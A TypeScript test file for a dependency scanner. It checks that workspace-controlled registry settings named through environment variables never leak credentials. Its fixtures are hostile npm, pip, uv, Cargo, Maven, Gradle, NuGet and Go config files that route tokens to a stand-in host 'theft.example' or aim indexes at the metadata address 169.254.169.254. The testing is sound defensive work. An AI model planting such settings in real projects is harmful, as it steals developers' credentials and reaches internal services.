import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, test } from 'node:test';
import { openPrivateFacts } from '../../../server/src/bin/private.ts';
import { fileUri } from '../../../server/src/engine/base/uri.ts';
import { isSameVersionIn } from '../../../server/src/engine/ecosystems/versioning.ts';
import { createMemoryCache } from '../../../server/src/engine/facts/cache/cache.ts';
import { createInsights } from '../../../server/src/engine/facts/store/fact-store.ts';
import { createHttp } from '../../../server/src/engine/http/client.ts';
import { proxiesOf } from '../../../server/src/engine/http/proxy.ts';
import { accessOf } from '../../../server/src/engine/model/registries/asked-registries.ts';
import { joinPrivateFacts } from '../../../server/src/engine/model/registries/join-private.ts';
import { createScanner } from '../../../server/src/engine/report/scan/scan.ts';
import { readSettings } from '../../../server/src/engine/settings/read.ts';
import { systemClock } from '../../../server/src/platform/clock.ts';
import { diskFiles } from '../../../server/src/platform/files.ts';
import { machineCredentials } from '../../../server/src/platform/machine-credentials.ts';
import { machineRegistries } from '../../../server/src/platform/machine-settings.ts';
import { hostName, selfSigned } from '../../harness/certificate.ts';
import { startServiceForFile } from '../../harness/file-service.ts';
import { startRecorder } from './recorder.ts';

/*
 * What a variable of the machine leads to is the person's own where it lies outside of the open folder and its repository,
 * and the workspace's where it lies inside, through whatever link. Of the workspace, no file sends a variable of the
 * environment, asks an inner address, or gives the address of a credential.
 */

interface Named {
  /** The variables that lead to the settings in a folder. */
  readonly by: (folder: string) => Readonly<Record<string, string>>;
  readonly files: Readonly<Record<string, string>>;
  readonly manifest: readonly [name: string, text: string];
  /** What the registry gets if the settings are the person's: a part of the header, or of the host. */
  readonly sends: string;
}

const theft = 'https://theft.example';
const inner = 'http://169.254.169.254';
const [token, login] = ['Bearer hunter2', `Basic ${Buffer.from('me:hunter2').toString('base64')}`];

const packageJson = ['package.json', '{ "dependencies": { "@secret/a": "1.0.0" } }'] as const;
const scope = `@secret:registry=${theft}/\n//theft.example/:_authToken=\${SECRET}\n`;
const npmrc = (path: string, by: Named['by']): Named => ({
  by,
  files: { [path]: scope },
  manifest: packageJson,
  sends: token,
});

const uvProject = ['pyproject.toml', '[project]\nname = "x"\ndependencies = ["secret-a"]\n[tool.uv]\n'] as const;
const uvToml = (path: string, by: Named['by']): Named => ({
  by: (folder) => ({ UV_INDEX_ACME_USERNAME: 'me', UV_INDEX_ACME_PASSWORD: 'hunter2', ...by(folder) }),
  files: { [path]: `[[index]]\nname = "acme"\nurl = "${theft}/simple"\n` },
  manifest: uvProject,
  sends: login,
});

const pipConf = (path: string, by: Named['by']): Named => ({
  by,
  files: { [path]: `[global]\nindex-url = ${inner}/simple\n` },
  manifest: ['requirements.txt', 'secret-a==1.0\n'],
  sends: '169.254.169.254',
});

const pdmConfig = (path: string, by: Named['by']): Named => ({
  by,
  files: { [path]: `[pypi]\nurl = "https://me:\${SECRET}@theft.example/simple"\n` },
  manifest: ['pyproject.toml', '[project]\nname = "x"\ndependencies = ["secret-a"]\n[tool.pdm]\n'],
  sends: login,
});

const settingsXml = (path: string, by: Named['by']): Named => ({
  by,
  files: {
    [path]: `<settings><servers><server><id>acme</id><username>me</username><password>\${env.SECRET}</password></server></servers>
      <profiles><profile><id>p</id><repositories><repository><id>acme</id><url>${theft}/m2</url></repository></repositories></profile>
      </profiles><activeProfiles><activeProfile>p</activeProfile></activeProfiles></settings>`,
  },
  manifest: [
    'pom.xml',
    '<project><dependencies><dependency><groupId>secret</groupId><artifactId>a</artifactId><version>1.0</version></dependency></dependencies></project>',
  ],
  sends: login,
});

const goEnv = (path: string, by: Named['by']): Named => ({
  by,
  files: { [path]: `GOPROXY=${inner}\n` },
  manifest: ['go.mod', 'module x\n\nrequire acme.example/secret v1.0.0\n'],
  sends: '169.254.169.254',
});

const named = {
  'HOME and .npmrc': npmrc('.npmrc', (HOME) => ({ HOME })),
  npm_config_userconfig: npmrc('a.rc', (it) => ({ npm_config_userconfig: `${it}/a.rc` })),
  npm_config_globalconfig: npmrc('a.rc', (it) => ({ npm_config_globalconfig: `${it}/a.rc` })),
  npm_config_prefix: npmrc('etc/npmrc', (npm_config_prefix) => ({ npm_config_prefix })),
  PREFIX: npmrc('etc/npmrc', (PREFIX) => ({ PREFIX })),
  pnpm_config_userconfig: npmrc('a.rc', (it) => ({ pnpm_config_userconfig: `${it}/a.rc` })),
  pnpm_config_globalconfig: npmrc('a.rc', (it) => ({ pnpm_config_globalconfig: `${it}/a.rc` })),
  pnpm_config_npmrc_auth_file: npmrc('a.rc', (it) => ({ pnpm_config_npmrc_auth_file: `${it}/a.rc` })),
  NVM_DIR: npmrc('versions/node/v22.1.0/etc/npmrc', (NVM_DIR) => ({ NVM_DIR })),
  VOLTA_HOME: npmrc('tools/image/node/22.1.0/etc/npmrc', (VOLTA_HOME) => ({ VOLTA_HOME })),
  ASDF_DATA_DIR: npmrc('installs/nodejs/22.1.0/etc/npmrc', (ASDF_DATA_DIR) => ({ ASDF_DATA_DIR })),
  MISE_DATA_DIR: npmrc('installs/node/22.1.0/etc/npmrc', (MISE_DATA_DIR) => ({ MISE_DATA_DIR })),
  FNM_DIR: npmrc('node-versions/v22.1.0/installation/etc/npmrc', (FNM_DIR) => ({ FNM_DIR })),
  NODENV_ROOT: npmrc('versions/22.1.0/etc/npmrc', (NODENV_ROOT) => ({ NODENV_ROOT })),
  'XDG_CONFIG_HOME and pnpm': npmrc('pnpm/rc', (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME })),
  'XDG_CONFIG_HOME and bun': {
    by: (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME }),
    files: { '.bunfig.toml': `[install.scopes]\nsecret = { url = "${theft}/", token = "$SECRET" }\n` },
    manifest: packageJson,
    sends: token,
  },
  'HOME and YARN_RC_FILENAME': {
    by: (HOME) => ({ HOME, YARN_RC_FILENAME: '.ci.yml' }),
    files: { '.ci.yml': `npmScopes: { secret: { npmRegistryServer: "${theft}", npmAuthToken: "\${SECRET}" } }\n` },
    manifest: packageJson,
    sends: token,
  },
  UV_CONFIG_FILE: uvToml('a.toml', (it) => ({ UV_CONFIG_FILE: `${it}/a.toml` })),
  'XDG_CONFIG_HOME and uv': uvToml('uv/uv.toml', (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME })),
  'XDG_CONFIG_DIRS and uv': uvToml('uv/uv.toml', (XDG_CONFIG_DIRS) => ({ XDG_CONFIG_DIRS })),
  PIP_CONFIG_FILE: pipConf('a.conf', (it) => ({ PIP_CONFIG_FILE: `${it}/a.conf` })),
  VIRTUAL_ENV: pipConf('pip.conf', (VIRTUAL_ENV) => ({ VIRTUAL_ENV })),
  'XDG_CONFIG_HOME and pip': pipConf('pip/pip.conf', (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME })),
  PDM_CONFIG_FILE: pdmConfig('a.toml', (it) => ({ PDM_CONFIG_FILE: `${it}/a.toml` })),
  'XDG_CONFIG_HOME and PDM': pdmConfig('pdm/config.toml', (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME })),
  POETRY_CONFIG_DIR: {
    by: (POETRY_CONFIG_DIR) => ({
      POETRY_CONFIG_DIR,
      POETRY_HTTP_BASIC_ACME_USERNAME: 'me',
      POETRY_HTTP_BASIC_ACME_PASSWORD: 'hunter2',
    }),
    files: { 'config.toml': `[repositories.acme]\nurl = "${theft}/simple"\n` },
    manifest: [
      'pyproject.toml',
      `[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\nsecret-a = "1.0"\n[[tool.poetry.source]]\nname = "acme"\nurl = "${theft}/simple"\n`,
    ],
    sends: login,
  },
  CARGO_HOME: {
    by: (CARGO_HOME) => ({ CARGO_HOME, CARGO_REGISTRIES_ACME_TOKEN: 'hunter2' }),
    files: {
      'config.toml': `[registries.acme]\nindex = "sparse+${theft}/index/"\ncredential-provider = "cargo:token"\n`,
    },
    manifest: ['Cargo.toml', '[dependencies]\nsecret-a = { version = "1.0", registry = "acme" }\n'],
    sends: 'hunter2',
  },
  MAVEN_ARGS: settingsXml('a.xml', (it) => ({ MAVEN_ARGS: `-B -s ${it}/a.xml` })),
  MAVEN_OPTS: settingsXml('a.xml', (it) => ({ MAVEN_OPTS: `-Dmaven.user.settings=${it}/a.xml` })),
  MAVEN_HOME: settingsXml('conf/settings.xml', (MAVEN_HOME) => ({ MAVEN_HOME })),
  M2_HOME: settingsXml('conf/settings.xml', (M2_HOME) => ({ M2_HOME })),
  GRADLE_USER_HOME: {
    by: (GRADLE_USER_HOME) => ({ GRADLE_USER_HOME }),
    files: {
      'init.gradle': `allprojects { repositories { maven { url = '${theft}/m2'; credentials { username = 'me'; password = System.getenv('SECRET') } } } }\n`,
    },
    manifest: ['build.gradle', "dependencies { implementation 'secret:a:1.0' }\n"],
    sends: login,
  },
  NUGET_COMMON_APPLICATION_DATA: {
    by: (NUGET_COMMON_APPLICATION_DATA) => ({ NUGET_COMMON_APPLICATION_DATA }),
    files: {
      'NuGet/Config/a.config': `<configuration><packageSources><add key="acme" value="${theft}/v3/index.json" /></packageSources>
        <packageSourceCredentials><acme><add key="Username" value="me" /><add key="ClearTextPassword" value="%SECRET%" /></acme></packageSourceCredentials></configuration>`,
    },
    manifest: [
      'a.csproj',
      '<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><PackageReference Include="Secret.A" Version="1.0.0" /></ItemGroup></Project>',
    ],
    sends: login,
  },
  GOENV: goEnv('a.env', (it) => ({ GOENV: `${it}/a.env` })),
  'XDG_CONFIG_HOME and Go': goEnv('go/env', (XDG_CONFIG_HOME) => ({ XDG_CONFIG_HOME })),
  GOROOT: goEnv('go.env', (GOROOT) => ({ GOROOT })),
} as const satisfies Readonly<Record<string, Named>>;

const scratch = realpathSync(mkdtempSync(join(tmpdir(), 'named-')));
const certificate = selfSigned('recorder', [hostName('theft.example')]);
const service = await startServiceForFile({ 'NPM lodash': { versions: ['4.17.21'] } });
after(() => rmSync(scratch, { recursive: true }));

function write(path: string, text: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
}

let last = 0;

/**
 * Checks a manifest in the folder `app` of the repository `work`.
 * @param place the folder with the settings
 * @param link another path that leads to it, which the variables name
 * @returns what registries got, and whether the service was asked about the package
 */
async function check(
  { by, files, manifest: [name, text] }: Named,
  { place, link, isTrusted = true }: { readonly place: string; readonly link?: string; readonly isTrusted?: boolean },
): Promise<readonly string[]> {
  const root = join(scratch, String(last++));
  mkdirSync(root, { recursive: true });
  write(`${root}/work/.git/HEAD`, 'ref: refs/heads/main\n');
  write(`${root}/work/app/${name}`, text);
  mkdirSync(`${root}/person`, { recursive: true });
  for (const [path, content] of Object.entries(files)) write(`${root}/${place}/${path}`, content);
  if (link) symlinkSync(`${root}/${place}`, `${root}/${link}`);
  const machine = {
    environment: { HOME: `${root}/person`, SECRET: 'hunter2', ...by(`${root}/${link ?? place}`) },
    platform: 'linux',
  } as const;
  const folders = () => [`${fileUri(`${root}/work/app`)}/`];
  const at = { ...machine, home: machine.environment.HOME };
  const recorder = await startRecorder(certificate, (_, response) => response.writeHead(404).end());
  const http = createHttp({
    clock: systemClock,
    userAgent: 'package-insights-test',
    ca: [certificate.cert],
    proxies: () =>
      proxiesOf({ HTTP_PROXY: recorder.url, HTTPS_PROXY: recorder.url, NO_PROXY: new URL(service.url).host }),
  });
  const settings = readSettings({ baseUrl: service.url, privateRegistries: 'ask' });
  const packages = createInsights({ settings: () => settings, http, clock: systemClock, cache: createMemoryCache() });
  const host = { settings: () => settings, clock: systemClock, accessOf, isSameVersion: isSameVersionIn };
  const insights = joinPrivateFacts(
    packages,
    async () => openPrivateFacts(host, http, undefined),
    () => true,
  );
  const scanner = createScanner({
    files: {
      ...diskFiles(folders),
      machine: machineRegistries(folders, at),
      credentials: machineCredentials(folders, at),
    },
    insights,
    settings,
    clock: systemClock,
    isTrusted,
    patience: 20_000,
    signal: new AbortController().signal,
    progress: () => {},
  });
  const { snapshots } = await scanner.scan([fileUri(`${root}/work/app/${name}`)]);
  assert.equal(snapshots[0]?.dependencies.length, 1);
  await insights.close();
  await http.close();
  await recorder.close();
  for (const it of service.requests) assert.doesNotMatch(decodeURIComponent(it.path + it.body), /secret/i);
  return recorder.recorded.map((it) => `${it.host} ${it.authorization} ${it.path}`);
}

async function holdNothingSent(one: Named, where: Parameters<typeof check>[1]): Promise<void> {
  const asked = await check(one, where);
  const sent = asked.filter((it) => it.includes(one.sends) || it.includes('hunter2'));
  assert.deepEqual(sent, [], JSON.stringify(where));
}

const options = { skip: process.platform === 'win32' };

describe('settings that a variable names', { concurrency: 8 }, () => {
  for (const [title, one] of Object.entries(named)) {
    test(`${title} names the person's settings, or a file of the workspace`, options, async () => {
      const own = await check(one, { place: 'person/own' });
      assert.ok(
        own.some((it) => it.includes(one.sends)),
        `the person's own settings are used: ${own.join(', ')}`,
      );
      await holdNothingSent(one, { place: 'work/rc' });
      assert.deepEqual(await check(one, { place: 'work/rc', isTrusted: false }), []);
    });
  }
});

test('links lead into the workspace, or through it', options, async () => {
  for (const where of [
    { place: 'work/app/rc' },
    { place: 'work/rc', link: 'person/into' },
    { place: 'person/own', link: 'work/app/out' },
  ]) {
    for (const title of ['npm_config_userconfig', 'NVM_DIR', 'CARGO_HOME'] as const)
      await holdNothingSent(named[title], where);
  }
});

test('a file that another settings file names is of the workspace where it lies there, or where that file does', async () => {
  const rc = (text: string): Named => ({
    by: (it) => ({ npm_config_userconfig: `${it}/first.rc` }),
    files: { 'first.rc': text },
    manifest: packageJson,
    sends: token,
  });
  const root = (): string => join(scratch, String(last));
  write(`${root()}/person/second.rc`, scope);
  assert.match((await check(rc(`globalconfig=${root()}/person/second.rc\n`), { place: 'other' })).join(), /hunter2/);
  write(`${root()}/work/second.rc`, scope);
  assert.doesNotMatch(
    (await check(rc(`globalconfig=${root()}/work/second.rc\n`), { place: 'other' })).join(),
    /hunter2/,
  );
  write(`${root()}/other/etc/npmrc`, scope);
  assert.doesNotMatch((await check(rc(`prefix=${root()}/other\n`), { place: 'work' })).join(), /hunter2/);
});

test('PATH withholds a name and asks nobody about it, wherever it leads', async () => {
  const onPath = npmrc('etc/npmrc', (it) => ({ PATH: `/usr/bin:${it}/bin` }));
  for (const place of ['person/own', 'work/rc', 'work/app/rc']) assert.deepEqual(await check(onPath, { place }), []);
  // What the person names as well is used.
  const both = npmrc('etc/npmrc', (it) => ({ PATH: `${it}/bin`, PREFIX: it }));
  assert.match((await check(both, { place: 'person/own' })).join(), /hunter2/);
});

test('settings of the workspace withhold what the person takes from a private registry all the same', async () => {
  const own = 'https://npm.acme.example/';
  const shape: Named = {
    by: (it) => ({ npm_config_userconfig: `${it}/a.rc` }),
    files: {
      'a.rc': '@secret:registry=https://registry.example/\n',
      '../../person/.npmrc': `@secret:registry=${own}\n`,
    },
    manifest: packageJson,
    sends: '',
  };
  // The service would be asked if the file of the workspace took the scope from the public registry.
  assert.doesNotMatch((await check(shape, { place: 'work/rc' })).join(), /hunter2/);
});
